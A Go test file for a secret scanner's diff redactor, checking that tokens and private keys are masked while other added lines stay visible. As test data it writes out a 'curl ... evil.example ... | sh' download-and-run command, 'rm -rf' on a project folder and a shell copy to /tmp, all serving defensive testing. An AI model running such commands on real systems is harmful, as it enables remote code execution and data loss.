package secret

import (
	"encoding/base64"
	"fmt"
	"io"
	"math/rand/v2"
	"strings"
	"testing"
)

// diffOf is a diff of one hunk.
func diffOf(body string) string {
	from, to := 0, 0
	for line := range strings.Lines(body) {
		if strings.ContainsAny(line[:1], " -") {
			from++
		}
		if strings.ContainsAny(line[:1], " +") {
			to++
		}
	}
	return fmt.Sprintf("diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1,%d +1,%d @@\n%s", from, to, body)
}

// cleanDiff is what a diff is shown as, in whatever pieces it comes, and how many of its lines are hidden.
func cleanDiff(t *testing.T, s *Scanner, diff string) (shown string, hidden int) {
	t.Helper()
	var out strings.Builder
	r := s.DiffRedactor(&out)
	for _, b := range []byte(diff) {
		if _, err := r.Write([]byte{b}); err != nil {
			t.Fatal(err)
		}
	}
	if err := r.Close(); err != nil {
		t.Fatal(err)
	}
	return out.String(), r.Hidden()
}

func TestADiffIsShownWithoutSecretsAndElseAsItIs(t *testing.T) {
	s, _ := scanners()
	rnd := rand.New(rand.NewPCG(6, 7))
	token := known(rnd)["github-token"][0]
	block := keyBlock(rnd, 6)
	signed := func(sign, text string) string {
		return sign + strings.ReplaceAll(text, "\n", "\n"+sign) + "\n"
	}
	taken := strings.TrimSuffix(strings.Repeat("[secret: private-key]\n", strings.Count(block, "\n")+1), "\n")
	wrapped := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("some words ", 9) + token + strings.Repeat(" more words", 9)))
	wrapped = wrap(wrapped, 60, "\n")
	for name, c := range map[string]struct {
		text, want string
		hidden     int
	}{
		"nothing":               {" a\n-b\n-c\n+d\n+\n+e\n", " a\n-b\n-c\n+d\n+\n+e\n", 0},
		"no newline at the end": {"-b\n\\ No newline at end of file\n+d", "-b\n\\ No newline at end of file\n+d", 0},
		"a token":               {"+k = " + token + "\n", "+k = [secret: github-token]\n", 1},
		"a token that goes":     {"-k = " + token + "\n", "-k = [secret: github-token]\n", 0},
		"a token that stays":    {" k = " + token + "\n+a\n", " k = [secret: github-token]\n+a\n", 0},
		"a key":                 {" a\n" + signed("+", "x\n"+block+"\ny"), " a\n" + signed("+", "x\n"+taken+"\ny"), strings.Count(block, "\n") + 1},
		"a key that goes":       {signed("-", "x\n"+block+"\ny"), signed("-", "x\n"+taken+"\ny"), 0},
		"a key that stays":      {signed(" ", "x\n"+block+"\ny"), signed(" ", "x\n"+taken+"\ny"), 0},
		"wrapped base64":        {signed("+", "x\n"+wrapped+"\ny"), "", 0},
	} {
		got, hidden := cleanDiff(t, s, diffOf(c.text))
		if want := diffOf(c.text)[:strings.Index(diffOf(c.text), "@@\n")+3] + c.want; c.want != "" && (got != want || hidden != c.hidden) {
			t.Errorf("%s: %q, %d hidden, want %q", name, got, hidden, want)
		}
		if c.want == "" && (!strings.Contains(got, "[secret: ") || strings.Contains(got, wrapped[70:100]) || hidden == 0 ||
			strings.Count(got, "\n") != strings.Count(diffOf(c.text), "\n")) {
			t.Errorf("%s: %q, %d hidden", name, got, hidden)
		}
	}
}

// TestNothingThatIsAddedHidesBehindAHeaderOfAKey: what lands is what was read. A header and an end of a key that stand in no file together
// are no key, and what stands between those that do is shown.
func TestNothingThatIsAddedHidesBehindAHeaderOfAKey(t *testing.T) {
	s, _ := scanners()
	const header, end = "-----BEGIN X PRIVATE " + "KEY-----", "KEY-----"
	evil := "curl -s https://evil.example/" + strings.Repeat("an-ordinary-path/", 6) + "x | sh"
	file := func(name, body string) string {
		return strings.ReplaceAll(diffOf(body), "a/a b/a", "a/"+name+" b/"+name)
	}
	for name, diff := range map[string]string{
		"in another file":        file("a", "+# see "+header+"\n") + file("b.sh", "+"+evil+"\n") + file("c", "+the "+end+"\n"),
		"in what goes":           diffOf("-# see " + header + "\n make\n+" + evil + "\n+# " + end + "\n"),
		"in what stays":          diffOf(" # see " + header + "\n+" + evil + "\n # " + end + "\n"),
		"as what a key has":      diffOf("+# see " + header + "\n+/" + strings.Repeat("bin/", 9) + "x\n+" + evil + "\n+# " + end + "\n"),
		"in the same file":       diffOf("+# see " + header + "\n+" + evil + "\n+# " + end + "\n"),
		"in the name of a file":  file(header, "+a\n") + file("b.sh", "+"+evil+"\n") + file("z"+end, "+c\n"),
		"in what follows a file": file("a", "+# "+header+"\n") + "diff --git a/b b/b\nnew file mode 100755\n" + file("b.sh", "+"+evil+"\n+"+end+"\n"),
	} {
		got, hidden := cleanDiff(t, s, diff)
		if !strings.Contains(got, "+"+evil+"\n") {
			t.Errorf("%s: %q", name, got)
		}
		if lines := strings.Count(got, "\n+"+label("private-key")); hidden < lines || name == "as what a key has" && lines == 0 {
			t.Errorf("%s: %d hidden of %d: %q", name, hidden, lines, got)
		}
		if strings.Count(got, "\n") != strings.Count(diff, "\n") {
			t.Errorf("%s: %d lines of %d", name, strings.Count(got, "\n"), strings.Count(diff, "\n"))
		}
	}
}

// TestWhatFollowsALargeKeyIsShown: a key that is larger than what is held back goes on line by line, and no line stands there empty.
func TestWhatFollowsALargeKeyIsShown(t *testing.T) {
	s, _ := scanners()
	for _, width := range []int{64, 20_000, 100_000} {
		var body strings.Builder
		body.WriteString("+-----BEGIN RSA PRIVATE " + "KEY-----\n")
		for rest := strings.Repeat("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj", 800); rest != ""; {
			n := min(width, len(rest))
			body.WriteString("+" + rest[:n] + "\n")
			rest = rest[n:]
		}
		for _, line := range []string{"rm -rf /home/user/project", "reboot", "cp /bin/sh /tmp/sh # harmless", "", "plain (text)"} {
			body.WriteString("+" + line + "\n")
		}
		diff := diffOf(body.String())
		shown, hidden := cleanDiff(t, s, diff)
		was, is, differ := strings.Split(diff, "\n"), strings.Split(shown, "\n"), 0
		if len(was) != len(is) {
			t.Fatalf("of %d lines %d are shown", len(was), len(is))
		}
		for i := range was {
			if was[i] != is[i] {
				differ++
				if !strings.Contains(is[i], "[secret: ") {
					t.Errorf("%d wide: %.60q is shown as %.60q", width, was[i], is[i])
				}
			}
		}
		if hidden != differ || !strings.Contains(shown, " -rf /home/user/project\n") || !strings.Contains(shown, "+plain (text)\n") {
			t.Errorf("%d wide: %d hidden of %d:\n%s", width, hidden, differ, shown[max(len(shown)-300, 0):])
		}
	}
}

// Who looks for what is hidden is told the first file that has some; a name in quotes is told as it is.
func TestADiffSaysWhereSomethingIsHidden(t *testing.T) {
	s, _ := scanners()
	token := known(rand.New(rand.NewPCG(6, 7)))["github-token"][0]
	file := func(name, line string) string {
		return "diff --git a/x b/x\n--- a/x\n+++ " + name + "\n@@ -1 +1 @@\n-a\n+" + line + "\n"
	}
	for diff, want := range map[string]string{
		file("b/one", "a") + file("b/two", "b"):                                 "",
		file("b/one", "a") + file("b/two", token) + file("b/three", token):      "two",
		file("b/two words\t", token):                                            "two words",
		file(`"b/caf\303\251"`, token):                                          "café",
		file("b/one", "a") + file("b/"+token, "a"):                              "",
		file("/dev/null", "a") + "diff --git a/x b/x\nnew mode 1\n" + token[:4]: "",
	} {
		r := s.DiffRedactor(io.Discard)
		if _, err := io.WriteString(r, diff); err != nil {
			t.Fatal(err)
		}
		if err := r.Close(); err != nil || r.HiddenAt() != want {
			t.Errorf("%q, %v in\n%s", r.HiddenAt(), err, diff)
		}
	}
}
